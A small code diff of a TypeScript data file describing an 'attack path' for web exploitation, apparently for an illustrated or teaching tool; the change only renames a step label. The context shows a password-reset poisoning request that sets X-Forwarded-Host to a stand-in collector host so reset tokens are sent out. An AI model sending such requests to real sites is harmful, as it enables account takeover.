@@ -21,7 +21,7 @@ export const webPath: AttackPath = {
       label: 'reset email',
       glyph: 'mail',
       lane: 2,
-      name: 'Send our own host name',
+      name: 'Send our own hostname',
       lines: [
         'POST /account/forgot HTTP/1.1',
         'X-Forwarded-Host: {-collector.tester.example-} {#1}',
